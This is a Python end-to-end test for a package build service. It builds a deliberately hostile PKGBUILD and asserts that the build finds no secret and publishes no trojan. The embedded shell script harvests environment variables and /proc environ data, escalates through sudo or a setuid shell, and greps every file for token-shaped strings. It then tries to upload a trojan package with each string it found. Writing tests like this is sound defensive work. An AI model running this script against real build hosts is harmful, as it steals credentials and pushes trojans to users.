"""A hostile PKGBUILD, built by the real agent in rootless Podman, hunts for secrets and
tries to publish with whatever it finds: it finds nothing, and publishes nothing."""

from __future__ import annotations

import hashlib
import re
import sqlite3
import time

from conftest import API_KEY
from test_agent_e2e import add_target, db_entries, pkgbuild, pytestmark, queue, tasks, world  # noqa: F401

# The build token's shape (vieter_lite/queue.py: secrets.token_urlsafe(32)).
TOKEN = re.compile(r"(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])")

# build(): dump the environment and every readable /proc/*/environ, gather every token-shaped
# string and every environment value from all files it can read (as root through sudo when
# the image allows it), then try to publish a trojan with each.
HUNT = r'''
    echo "== env"; env | sort
    echo "== environ"
    for f in /proc/[0-9]*/environ; do echo "-- $f"; tr '\0' '\n' < "$f" 2>/dev/null || true; done
    as() { "$@"; }
    if command -v sudo >/dev/null && sudo -n true 2>/dev/null; then
        as() { sudo -n "$@"; }; echo "== root through sudo"
    elif [ -u /usr/local/bin/rootbash ]; then
        as() { /usr/local/bin/rootbash -p -c '"$@"' as "$@"; }; echo "== root through rootbash"
    fi
    as id
    {
        env | cut -d= -f2-
        for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
            as cat "$f" 2>/dev/null | tr '\0' '\n' | cut -d= -f2-
        done
        as find / -xdev \( -path /proc -o -path /sys -o -path /dev \) -prune -o -type f \
            -size -4M -print0 2>/dev/null | as xargs -0 cat 2>/dev/null \
            | grep -aoE '(^|[^A-Za-z0-9_-])[A-Za-z0-9_-]{43}([^A-Za-z0-9_-]|$)' \
            | grep -aoE '[A-Za-z0-9_-]{43}' | sort -u | head -n 300
    } | grep -avE '^.{0,7}$' | awk '!seen[$0]++' > "$srcdir/found"  # environment values first
    echo "== $(wc -l < "$srcdir/found") candidates"
    cat "$srcdir/found"
    mkdir -p "$srcdir/trojan"
    cat > "$srcdir/trojan/PKGBUILD" <<'EOT'
pkgname=e2e-victim
pkgver=6.6.6
pkgrel=1
arch=('any')
package() { install -Dm755 /dev/stdin "$pkgdir/usr/bin/e2e-victim" <<< 'echo trojan'; }
EOT
    (cd "$srcdir/trojan" && env -i PATH="$PATH" HOME="$HOME" PKGDEST="$srcdir/trojan" \
        makepkg --nodeps >/dev/null 2>&1) || echo "== could not make the trojan"
    trojan=$(ls "$srcdir"/trojan/*.pkg.tar* | head -n1)
    echo "== trojan $trojan"
    tries=0; won=0
    while IFS= read -r value; do
        for method in POST PUT; do
            for header in "X-Api-Key: $value" "Authorization: Bearer $value"; do
                code=$(curl -s -o /dev/null -w '%{http_code}' -X "$method" -T "$trojan" \
                       -H "$header" "$VL_ADDRESS/$VL_REPO/publish" || true)
                tries=$((tries + 1))
                case "$code" in 2*) won=$((won + 1)); echo "== published with a found value ($method)";; esac
            done
        done
    done < "$srcdir/found"
    echo "== tried $tries uploads, $won accepted"
'''


def token_hash(db_path, build_id: int) -> str | None:
    with sqlite3.connect(f"file:{db_path}?mode=ro", uri=True, timeout=5) as db:
        row = db.execute("SELECT token_hash FROM builds WHERE id = ?", (build_id,)).fetchone()
    return row[0] if row else None


def test_a_pkgbuild_finds_no_secret_and_publishes_nothing(world):
    api = world["api"]
    (world["base"] / "web" / "hostile.PKGBUILD").write_text(pkgbuild("e2e-hostile", body=HUNT))
    target = add_target(api, "url", world["web_url"] + "/hostile.PKGBUILD")
    build_id = queue(api, target)
    hashes: set[str] = set()  # the build's token hash, read while it runs (cleared at finish)
    deadline = time.monotonic() + 300
    while (build := api.build(build_id))["status"] in ("queued", "running"):
        assert time.monotonic() < deadline, "the hostile build did not finish"
        found = token_hash(world["server"].data_dir / "vieter.sqlite", build_id)
        if found:
            hashes.add(found)
        time.sleep(0.2)
    log = api.log(build_id)
    assert build["status"] == "success", (log[-3000:], world["agent_log"].read_text()[-3000:])
    assert tasks(build)["publish"] == "success"
    assert len(hashes) == 1, "never saw the build's token hash while it ran"

    # it really looked (every proc environ it could read, the files), and found nothing
    assert "== env" in log and "-- /proc/1/environ" in log and "candidates" in log
    assert "== root through" in log and "euid=0(root)" in log, log[:3000]
    assert "== trojan /" in log and "could not make the trojan" not in log
    assert "== tried" in log and ", 0 accepted" in log, log[-2000:]
    assert API_KEY not in log
    seen = set(TOKEN.findall(log))
    leaked = [t for t in seen if hashlib.sha256(t.encode()).hexdigest() in hashes]
    assert not leaked, "the build token is in the build log"

    # the repo holds the build's own packages, and no trojan
    entries = db_entries(api)
    assert {"e2e-hostile-bin-1.0-1", "e2e-hostile-data-1.0-1"} <= entries
    assert not [e for e in entries if e.startswith("e2e-victim")], entries
    assert "+ publish e2e-hostile-bin-1.0-1-x86_64.pkg.tar.zst" in log
